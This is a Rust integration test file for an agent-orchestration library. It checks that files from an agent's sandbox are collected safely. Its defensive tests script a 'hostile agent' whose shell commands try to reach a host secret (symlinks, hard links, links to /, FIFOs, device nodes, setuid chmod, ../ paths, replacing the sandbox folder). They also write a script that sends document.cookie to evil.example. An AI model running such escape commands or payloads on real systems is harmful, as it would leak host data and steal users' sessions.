//! Files of turns on the real server: what the demo writes, and what a hostile agent leaves.

use std::path::Path;
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use opencode_orchestrate::blocker::BlockerPolicy;
use opencode_orchestrate::collect::{Collected, MessageArtifacts};
use opencode_orchestrate::hooks::{HookResult, TurnHooks};
use opencode_orchestrate::rules::Rules;
use opencode_orchestrate::sandbox::{Sandbox, SandboxOptions};
use opencode_orchestrate::transform::{
    Rendered, Source, StampKey, StampKeys, Transform, TransformError, Transforms,
};
use opencode_orchestrate::turn::{RunOptions, Turn, TurnOutcome, TurnRunner};
use opencode_orchestrate::upload::{Upload, UploadLimits, UploadedFiles};
use opencode_store::artifact::{ArtifactName, ArtifactStoreExt as _, Show};
use opencode_store::turn::TurnRecord;
use opencode_store::{Store, StoreOptions};
use opencode_testkit::model::{Model, ModelScript, Op};
use opencode_testkit::real::RealServer;
use opencode_wire::Client;
use opencode_wire::api::Prompt;
use opencode_wire::drive::CancellationToken;
use serde_json::json;
use tempfile::TempDir;

use super::rig::HANGS_AFTER;
use crate::support::subject;

/// What a host was told that was left out.
#[derive(Debug, Default)]
struct Told(Mutex<Vec<String>>);

#[async_trait]
impl TurnHooks for Told {
    async fn on_files(&self, _: &TurnRecord, collected: &Collected) -> HookResult {
        let left_out = collected.left_out.iter();
        let lines = left_out.map(|left_out| format!("{}: {}", left_out.name, left_out.why));
        self.0.lock().unwrap().extend(lines);
        Ok(())
    }
}

/// A real server, a store on a SQLite file with a folder for artifacts, and a sandbox.
struct Desk {
    server: RealServer,
    model: Model,
    store: Store,
    sandbox: Sandbox,
    folder: TempDir,
    told: Arc<Told>,
}

impl Desk {
    async fn set_up(model: Model) -> Option<Self> {
        let builder = RealServer::builder().model_url(model.url()).config(&Model::demo_config());
        let server = builder.start_or_skip().await?;
        let folder = tempfile::tempdir().unwrap();
        let url = format!("sqlite://{}", folder.path().join("store.db").display());
        let store = Store::open_with(&url, StoreOptions::default()).await.unwrap();
        store.migrate().await.unwrap();
        let options = SandboxOptions::default().outside_worktrees();
        let sandbox = Sandbox::create_with(folder.path().join("box"), &options).unwrap();
        Some(Self { server, model, store, sandbox, folder, told: Arc::default() })
    }

    fn files(&self) -> MessageArtifacts {
        MessageArtifacts::new(self.store.artifacts().unwrap())
    }

    async fn run(&self, files: MessageArtifacts, prompt: Prompt) -> TurnOutcome {
        let password = self.server.password().expect("servers of tests have a password");
        let client = Client::builder().base_url(self.server.url()).password(password).build().unwrap();
        let runner = TurnRunner::new(self.store.clone(), client, RunOptions::default())
            .with_blockers(BlockerPolicy::default().with_rules(Rules::deny_all().allow("*")))
            .with_hooks(Arc::clone(&self.told) as _)
            .with_files(files);
        let turn = Turn::on(&runner, &subject(), prompt)
            .directory(self.sandbox.directory().unwrap())
            .permissions(Rules::deny_all().allow("*"))
            .title("a test");
        let run = turn.run(CancellationToken::new());
        let outcome = tokio::time::timeout(HANGS_AFTER, run).await.expect("the turn hangs").unwrap();
        assert!(outcome.is_completed(), "{}", outcome.end().message);
        outcome
    }

    async fn content(&self, outcome: &TurnOutcome, name: &ArtifactName) -> Vec<u8> {
        let artifacts = self.store.artifacts().unwrap();
        artifacts.read_bytes(outcome.turn.id, name, 1 << 20).await.unwrap().unwrap().1.to_vec()
    }

    fn left_out(&self) -> Vec<String> {
        let mut lines = std::mem::take(&mut *self.told.0.lock().unwrap());
        lines.sort();
        lines
    }
}

fn names(outcome: &TurnOutcome) -> Vec<&str> {
    outcome.artifacts.iter().map(|artifact| artifact.name.as_str()).collect()
}

fn bash(command: &str) -> Op {
    Op::tool("bash", json!({ "command": command, "description": "Does something" }))
}

/// Three files that are written, one of which is edited and another patched: all bytes are those of the last change.
#[tokio::test]
async fn the_files_of_the_demo_are_stored_byte_for_byte() {
    let Some(desk) = Desk::set_up(Model::demo().await).await else { return };
    let outcome = desk.run(desk.files(), Prompt::from("Write hello.md, please.")).await;
    assert_eq!(names(&outcome), ["hello-facts.txt", "hello-notes.md", "hello.md"]);
    assert_eq!(desk.left_out(), [""; 0]);
    for (name, expected) in [
        ("hello.md", "# Write hello.md, please.\n\nThis file was written by a scripted model.\n"),
        ("hello-notes.md", "# Notes\n\n- [x] Change this line\n"),
        ("hello-facts.txt", "written by: a scripted model\nchanged by: a patch\n"),
    ] {
        let name: ArtifactName = name.parse().unwrap();
        let stored = desk.content(&outcome, &name).await;
        assert_eq!(String::from_utf8_lossy(&stored), expected);
        assert_eq!(stored, std::fs::read(desk.sandbox.path().join(name.as_str())).unwrap());
    }
    let types: Vec<_> = outcome.artifacts.iter().map(|artifact| artifact.content_type.as_str()).collect();
    assert_eq!(types, ["text/plain", "text/markdown", "text/markdown"]);
}

/// Each way out of a folder that an agent with a shell may try.
#[tokio::test]
async fn g20_a_hostile_agent_gets_nothing_out_and_is_told_of() {
    let Some(desk) = Desk::set_up(Model::start().await).await else { return };
    let outside = desk.folder.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), "a secret of the host").unwrap();
    // A folder that begins with the same letters.
    std::fs::create_dir(desk.folder.path().join("box-of-another")).unwrap();
    std::fs::write(desk.folder.path().join("box-of-another/work.txt"), "a secret of another").unwrap();
    let secret = outside.join("secret.txt");
    let secret = secret.to_str().unwrap();
    let script = ModelScript::new()
        .step([
            bash(&format!("ln -s {secret} link.txt; ln -s {} folder", outside.display())),
            bash(&format!("ln {secret} hard.txt; mkfifo pipe.txt")),
            bash("python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"socket.txt\")' || mkfifo socket.txt"),
            bash("ln -s ../box-of-another/work.txt sibling.txt; ln -s / root; ln -s . loop"),
            // As root it is a device, and else another pipe.
            bash("mknod device.txt c 1 5 || mkfifo device.txt; echo work > rights.txt; chmod 4777 rights.txt"),
            // It writes on while the files are collected.
            bash("setsid sh -c 'for i in $(seq 200000); do echo more >> growing.txt; done' >/dev/null 2>&1 &"),
            bash("head -c 11000000 /dev/zero > large.bin; echo hidden > .hidden; printf x > 'back\\slash'"),
            Op::tool("write", json!({ "filePath": "good.txt", "content": "good" })),
            Op::tool("write", json!({ "filePath": "../escaped.txt", "content": "the agent's own words" })),
        ])
        .step([Op::text("Done.")]);
    let outcome = desk.run(desk.files(), Prompt::from(script.to_prompt("Please go."))).await;

    // Whether it could be read in between is luck, and nobody's loss; what was read is one state of the file.
    let growing: ArtifactName = "growing.txt".parse().unwrap();
    let (grown, others): (Vec<_>, Vec<_>) =
        names(&outcome).into_iter().partition(|name| *name == growing.as_str());
    if !grown.is_empty() {
        let stored = desk.content(&outcome, &growing).await;
        assert!(stored.chunks(5).all(|line| line == b"more\n"));
    }
    // What a tool says in full is the agent's own words, wherever it was written.
    assert_eq!(others, ["escaped.txt", "good.txt", "rights.txt"]);
    for artifact in &outcome.artifacts {
        let content = String::from_utf8(desk.content(&outcome, &artifact.name).await).unwrap();
        assert!(!content.contains("secret"), "{}: {content}", artifact.name);
    }
    let link = "it is a link, or in a folder that is one";
    let special = "it is a pipe, a socket or a device";
    let (of_growing, left_out): (Vec<_>, Vec<_>) =
        desk.left_out().into_iter().partition(|line| line.starts_with("growing.txt: "));
    assert_eq!(grown.len() + of_growing.len(), 1, "it is stored or told: {of_growing:?}");
    assert_eq!(
        left_out,
        [
            "back\\slash: its name cannot be used everywhere".to_owned(),
            format!("device.txt: {special}"),
            format!("folder: {link}"),
            "hard.txt: it is a hard link".to_owned(),
            "large.bin: it has more than 10485760 bytes".to_owned(),
            format!("link.txt: {link}"),
            format!("loop: {link}"),
            format!("pipe.txt: {special}"),
            format!("root: {link}"),
            format!("sibling.txt: {link}"),
            format!("socket.txt: {special}"),
        ]
    );
    assert_eq!(std::fs::read_to_string(secret).unwrap(), "a secret of the host");

    // What the host writes over a file does not run as anybody else.
    desk.sandbox.write(&"rights.txt".parse().unwrap(), b"the host's").unwrap();
    let rights = std::fs::metadata(desk.sandbox.path().join("rights.txt")).unwrap().permissions();
    assert_eq!(std::os::unix::fs::PermissionsExt::mode(&rights) & 0o7000, 0);

    // The folder itself is replaced by a link to the outside.
    let place = desk.sandbox.path().display().to_string();
    let script = ModelScript::new()
        .step([bash(&format!("mv {place} {place}-was && ln -s {} {place}", outside.display()))])
        .step([Op::text("Done.")]);
    let outcome = desk.run(desk.files(), Prompt::from(script.to_prompt("Please go."))).await;
    assert_eq!(names(&outcome), [""; 0]);
    assert_eq!(desk.left_out(), [format!("{place}: {place} is a link: name the folder that it leads to")]);
    assert!(desk.sandbox.directory().is_err(), "and nobody is sent there again");
}

/// What a person uploads is the person's, until the agent has changed it.
#[tokio::test]
async fn uploads_are_read_by_the_agent_and_collected_once_it_has_changed_them() {
    let Some(desk) = Desk::set_up(Model::start().await).await else { return };
    let uploads = [Upload::from_bytes("Notes.md", "one\n"), Upload::from_bytes("../kept.txt", "kept\n")];
    let limits = UploadLimits::default();
    let uploaded = UploadedFiles::store(&desk.sandbox, uploads, &limits).await.unwrap();
    let script = ModelScript::new()
        .step([bash("cat Notes.md kept.txt && echo two >> Notes.md && cp kept.txt copy.txt")])
        .step([Op::text("Done.")]);
    // One of them is shown to the model itself, besides.
    let part = uploaded.part(&desk.sandbox, &"kept.txt".parse().unwrap(), 100).await.unwrap();
    let prompt = uploaded.prompt(&script.to_prompt("Please go.")).with_part(part);
    let outcome = desk.run(desk.files(), prompt).await;
    let told = outcome.parts.iter().map(|part| part.to_value().to_string()).collect::<String>();
    assert!(told.contains("one\\nkept\\n"), "the agent has read them: {told}");
    let asked = format!("{:?}", desk.model.requests().first().expect("the model is asked"));
    assert!(asked.contains("kept\\n") && asked.contains("2 files were uploaded"), "{asked}");
    assert_eq!(names(&outcome), ["Notes.md", "copy.txt"]);
    assert_eq!(desk.content(&outcome, &"Notes.md".parse().unwrap()).await, b"one\ntwo\n");
    assert_eq!(desk.left_out(), [""; 0]);
}

/// The host's page of the agent's numbers.
struct Chart {
    data: ArtifactName,
    page: ArtifactName,
}

#[async_trait]
impl Transform for Chart {
    fn name(&self) -> &str {
        "chart"
    }

    fn version(&self) -> u32 {
        1
    }

    fn source(&self) -> &ArtifactName {
        &self.data
    }

    fn destination(&self) -> &ArtifactName {
        &self.page
    }

    async fn render(&self, source: Source) -> Result<Rendered, TransformError> {
        let numbers: Vec<u8> = serde_json::from_slice(source.bytes())
            .map_err(|error| TransformError::new("the data is not a list of numbers").with_source(error))?;
        let bars: String = numbers.iter().map(|number| format!("<meter value={number}></meter>")).collect();
        Ok(Rendered::new(format!("<!doctype html><title>Chart</title>{bars}")))
    }
}

/// An agent that writes the host's page itself, under every spelling, and one that writes data.
#[tokio::test]
async fn g21_an_agent_cannot_pose_as_the_host() {
    let Some(desk) = Desk::set_up(Model::start().await).await else { return };
    let chart = Chart { data: "chart.json".parse().unwrap(), page: "chart.html".parse().unwrap() };
    let keys = StampKeys::new(StampKey::new([7; 32]));
    let transforms = Transforms::new(keys, vec![Arc::new(chart)]).unwrap();
    let posing = "<script>fetch('//evil.example/' + document.cookie)</script>";
    let write =
        |path: &str, content: &str| Op::tool("write", json!({ "filePath": path, "content": content }));
    let script = ModelScript::new()
        .step([
            write("chart.json", "[1, 2, 3]"),
            write("chart.html", posing),
            write("deep/Chart.HTML", posing),
            write("other.html", posing),
        ])
        .step([Op::text("Done.")]);
    let files = desk.files().with_transforms(transforms.clone());
    let outcome = desk.run(files, Prompt::from(script.to_prompt("Please go."))).await;
    assert_eq!(names(&outcome), ["chart.html", "other.html"]);
    let owned = "its name belongs to the host";
    assert_eq!(desk.left_out(), [format!("chart.html: {owned}"), format!("deep/Chart.HTML: {owned}")]);
    let [page, other] = &outcome.artifacts[..] else { panic!("two artifacts") };
    let shown = desk.content(&outcome, &page.name).await;
    assert!(String::from_utf8(shown).unwrap().ends_with("<meter value=3></meter>"));
    let trusted = transforms.trusted(page).expect("the host has rendered it");
    let disposition = |headers: &opencode_store::artifact::ServingHeaders| {
        headers.get("content-disposition").expect("it is always there").to_owned()
    };
    assert_eq!(disposition(&trusted.headers(Show::Inline)), r#"inline; filename="chart.html""#);
    assert!(transforms.trusted(other).is_none());
    assert_eq!(disposition(&other.headers(Show::Inline)), r#"attachment; filename="other.html""#);
    assert!(
        Path::new(desk.sandbox.path()).join("chart.html").is_file(),
        "what the agent wrote stays its own"
    );
}
